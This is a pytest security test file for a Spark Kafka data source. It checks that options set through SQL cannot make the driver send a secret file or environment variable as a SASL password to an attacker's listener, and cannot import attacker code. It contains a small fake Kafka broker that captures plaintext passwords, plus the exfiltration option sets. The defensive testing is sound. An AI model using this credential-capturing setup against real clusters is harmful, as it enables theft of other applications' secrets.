"""Options that somebody sets who may not read the driver's files: SQL is enough to set them.

The attacker names a listener of their own as the broker, and a file or a variable of the driver as the password.
SASL/PLAIN sends a password as it is.
"""

from __future__ import annotations

import json
import logging
import os
import socket
import struct
import subprocess
import sys
import tempfile
import threading
import time
from collections.abc import Callable, Iterator
from contextlib import suppress
from pathlib import Path

import pytest
from confluent_kafka import Consumer
from pyspark.errors import PySparkException
from pyspark.sql import SparkSession

from spark_groupsource.embedded import EmbeddedKafka

pytestmark = pytest.mark.spark

SECRET = "the-secret-of-another-application"
# Kafka's requests, and the error that makes a client ask for versions in the oldest way.
_HANDSHAKE, _VERSIONS, _TOO_NEW = 17, 18, 35
# Set before the JVM starts, as tests/conftest.py sets what these tests are allowed.
_VARIABLE = "ANOTHER_APPLICATIONS_PASSWORD"
os.environ.setdefault(_VARIABLE, SECRET)


class Listener:
    """A broker that knows enough of Kafka to be sent a password; `received` are the passwords."""

    def __init__(self) -> None:
        self.received: list[bytes] = []
        self._socket = socket.create_server(("127.0.0.1", 0))
        self.address = f"127.0.0.1:{self._socket.getsockname()[1]}"
        threading.Thread(target=self._accept, daemon=True).start()

    def close(self) -> None:
        """Take no connection any more."""
        self._socket.close()

    def options(self, prefix: str = "kafka.") -> dict[str, str]:
        """Return the options that send the listener a password."""
        return {
            f"{prefix}bootstrap.servers": self.address,
            f"{prefix}security.protocol": "sasl_plaintext",
            f"{prefix}sasl.mechanism": "PLAIN",
            f"{prefix}sasl.username": "attacker",
        }

    def _accept(self) -> None:
        while True:
            try:
                connection, _ = self._socket.accept()
            except OSError:
                return
            threading.Thread(target=self._serve, args=(connection,), daemon=True).start()

    def _serve(self, connection: socket.socket) -> None:
        # A client that is closed resets its connection.
        with suppress(ConnectionError), connection, connection.makefile("rb") as stream:
            while len(size := stream.read(4)) == 4:
                frame = stream.read(struct.unpack(">i", size)[0])
                request, version = struct.unpack(">hh", frame[:4])
                if request == _VERSIONS:
                    known = struct.pack(">hhhhhh", _HANDSHAKE, 0, 0, _VERSIONS, 0, 0)
                    answer = struct.pack(">hi", _TOO_NEW if version else 0, 2) + known
                elif request == _HANDSHAKE:
                    answer = struct.pack(">hih", 0, 1, 5) + b"PLAIN"
                else:
                    self.received.append(frame)
                    return
                connection.sendall(struct.pack(">i", 4 + len(answer)) + frame[4:8] + answer)


@pytest.fixture
def listener() -> Iterator[Listener]:
    """Return the attacker's listener."""
    found = Listener()
    yield found
    found.close()


@pytest.fixture
def secret_file() -> Iterator[Path]:
    """Return a file that the driver can read, and nobody has allowed options to name."""
    with tempfile.TemporaryDirectory(prefix="groupkafka-", dir="/var/tmp") as folder:
        path = Path(folder) / "password"
        path.write_text(SECRET)
        yield path


@pytest.fixture(params=["file", "env"])
def place(request: pytest.FixtureRequest, secret_file: Path) -> tuple[str, str, str]:
    """Return the end of the option's name, its value, and the variable that would allow it."""
    if request.param == "file":
        return ".file", str(secret_file), "GROUPKAFKA_SECRET_DIRS"
    return ".env", _VARIABLE, "GROUPKAFKA_SECRET_ENV"


def test_the_listener_is_sent_a_password(listener: Listener) -> None:
    """By any client that names it: what these tests look for can be seen."""
    settings = {name.removeprefix("kafka."): value for name, value in listener.options().items()}
    client = Consumer(settings | {"group.id": "any", "sasl.password": SECRET, "logger": logging.getLogger("quiet")})
    try:
        deadline = time.monotonic() + 60
        while not listener.received and time.monotonic() < deadline:
            client.poll(0.1)
    finally:
        client.close()
    assert listener.received[0] == f"\0attacker\0{SECRET}".encode()


def refused(run: Callable[[], object], variable: str, listener: Listener) -> None:
    """Check that it fails with the variable that would allow it, and that the listener got nothing."""
    with pytest.raises(PySparkException) as raised:
        run()
    assert not any(SECRET.encode() in frame for frame in listener.received), "the listener was sent the secret"
    assert "GROUPKAFKA.NOT_PERMITTED" in str(raised.value)
    assert variable in str(raised.value)


def view(spark: SparkSession, options: dict[str, str]) -> str:
    """Make a view as somebody does who has SQL only; return its name."""
    shown = ", ".join(f"'{name}' '{value}'" for name, value in options.items())
    spark.sql(f"CREATE OR REPLACE TEMPORARY VIEW stolen USING groupkafka OPTIONS ({shown})")
    return "stolen"


def test_sql_sends_no_file_or_variable_to_a_listener(
    spark: SparkSession, listener: Listener, place: tuple[str, str, str]
) -> None:
    end, value, variable = place
    options = {"subscribe": "orders", **listener.options(), f"kafka.sasl.password{end}": value}
    refused(lambda: spark.table(view(spark, options)).collect(), variable, listener)


def test_a_streaming_query_sends_none(
    spark: SparkSession, listener: Listener, place: tuple[str, str, str], tmp_path: Path
) -> None:
    end, value, variable = place
    options = {"subscribe": "orders", "kafka.group.id": "stolen", **listener.options()}
    options[f"kafka.sasl.password{end}"] = value

    def run() -> None:
        frame = spark.readStream.format("groupkafka").options(**options).load()
        query = frame.writeStream.format("noop").option("checkpointLocation", str(tmp_path)).start()
        try:
            query.awaitTermination(120)
        finally:
            query.stop()

    refused(run, variable, listener)


def test_executors_send_none(
    spark: SparkSession, listener: Listener, place: tuple[str, str, str], embedded_kafka: EmbeddedKafka
) -> None:
    """The driver plans with a broker of its own."""
    end, value, variable = place
    embedded_kafka.create_topic("orders", 1)
    embedded_kafka.produce("orders", [(b"k", b"v", 0)])
    options = {
        "subscribe": "orders", "kafka.bootstrap.servers": embedded_kafka.bootstrap_servers,
        "kafkaConsumer.pollTimeoutMs": "5000", **listener.options("executor.kafka."),
        f"executor.kafka.sasl.password{end}": value,
    }  # fmt: skip
    refused(lambda: spark.table(view(spark, options)).collect(), variable, listener)


@pytest.mark.parametrize("name", ["sasl.oauthbearer.assertion.file", "ssl.key.location"])
def test_a_file_that_the_client_reads_itself_must_be_allowed_too(
    name: str, spark: SparkSession, listener: Listener, secret_file: Path
) -> None:
    options = {"subscribe": "orders", **listener.options(), "kafka.sasl.password": "x"}
    options[f"kafka.{name}"] = str(secret_file)
    refused(lambda: spark.table(view(spark, options)).collect(), "GROUPKAFKA_SECRET_DIRS", listener)


def test_sql_imports_no_module(spark: SparkSession, listener: Listener, tmp_path: Path) -> None:
    """Spark puts files of ADD FILE on the path of its Python processes: the attacker's own among them."""
    module, proof = tmp_path / "strategy_of_an_attacker.py", tmp_path / "ran"
    module.write_text(f"from pathlib import Path\nPath({str(proof)!r}).write_text('it ran')\n")
    spark.sql(f"ADD FILE '{module}'")
    options = {"subscribe": "orders", **listener.options(), "assignors": f"{module.stem}:Anything"}
    refused(lambda: spark.table(view(spark, options)).collect(), "GROUPKAFKA_ALLOW_ASSIGNORS", listener)
    assert not proof.exists(), "the module was imported"


def test_options_alone_allow_no_code(spark: SparkSession, listener: Listener) -> None:
    options = {
        "subscribe": "orders", **listener.options(), "kafka.plugin.library.paths": "/tmp/any.so",
        "allowedUnsafeSettings": "plugin.library.paths",
    }  # fmt: skip
    refused(lambda: spark.table(view(spark, options)).collect(), "GROUPKAFKA_ALLOW_UNSAFE_SETTINGS", listener)


def test_metrics_are_appended_to_no_file_of_others(
    spark: SparkSession, embedded_kafka: EmbeddedKafka, tmp_path: Path
) -> None:
    other = tmp_path / "of-another-program"
    other.write_text("its own first line\n")
    embedded_kafka.create_topic("orders", 1)
    embedded_kafka.produce("orders", [(b"k", b"v", 0)])
    options = {
        "subscribe": "orders", "kafka.bootstrap.servers": embedded_kafka.bootstrap_servers, "kafka.group.id": "metrics",
        "kafka.group.protocol": "consumer", "startingOffsets": "earliest", "metricsPath": str(other),
    }  # fmt: skip
    frame = spark.readStream.format("groupkafka").options(**options).load()
    writer = frame.writeStream.format("noop").option("checkpointLocation", str(tmp_path / "checkpoint"))
    assert writer.trigger(availableNow=True).start().awaitTermination(120)
    assert other.read_text() == "its own first line\n"


_APPLICATION = """
import json, sys
from pyspark.sql import SparkSession
spark = SparkSession.builder.master("local[1]").config("spark.ui.enabled", "false").getOrCreate()
for kind, options in json.loads(sys.argv[1]).items():
    try:
        if kind == "stream":
            frame = spark.readStream.format("groupkafka").options(**options).load()
            frame.writeStream.format("noop").option("checkpointLocation", sys.argv[2]).start().awaitTermination(120)
        else:
            spark.read.format("groupkafka").options(**options).load().collect()
    except Exception as error:
        print(kind, "failed:", str(error).replace(chr(10), " "))
"""


@pytest.mark.timeout(600)
@pytest.mark.parametrize("is_permitted", [True, False])
def test_the_environment_of_spark_submit_decides(
    is_permitted: bool, secret_file: Path, embedded_kafka: EmbeddedKafka, tmp_path: Path
) -> None:
    """It reaches the process that plans, the query's reader process and executors; without it nothing is sent."""
    embedded_kafka.create_topic("orders", 1)
    embedded_kafka.produce("orders", [(b"k", b"v", 0)])
    listeners = {kind: Listener() for kind in ("batch", "stream", "executor")}
    jobs = {
        kind: {"subscribe": "orders", "kafka.group.id": "stolen"}
        | listener.options("executor.kafka." if kind == "executor" else "kafka.")
        | {f"{'executor.' if kind == 'executor' else ''}kafka.sasl.password.file": str(secret_file)}
        for kind, listener in listeners.items()
    }
    jobs["executor"] |= {
        "kafka.bootstrap.servers": embedded_kafka.bootstrap_servers, "kafkaConsumer.pollTimeoutMs": "30000"
    }  # fmt: skip
    script = tmp_path / "application.py"
    script.write_text(_APPLICATION)
    environment = {name: value for name, value in os.environ.items() if not name.startswith("GROUPKAFKA_")}
    if is_permitted:
        environment["GROUPKAFKA_SECRET_DIRS"] = str(secret_file.parent)
    submit = Path(sys.executable).with_name("spark-submit")
    done = subprocess.run(
        [submit, script, json.dumps(jobs), str(tmp_path / "checkpoint")],
        env=environment, cwd=tmp_path, capture_output=True, text=True, timeout=400, check=False,
    )  # fmt: skip
    assert done.returncode == 0, done.stderr[-4000:]
    for kind, listener in listeners.items():
        listener.close()
        sent = any(SECRET.encode() in frame for frame in listener.received)
        assert sent is is_permitted, f"{kind}: {done.stdout}\n{done.stderr[-4000:]}"
    assert done.stdout.count("failed:") == 3
    assert done.stdout.count("GROUPKAFKA_SECRET_DIRS") == (0 if is_permitted else 3), done.stdout
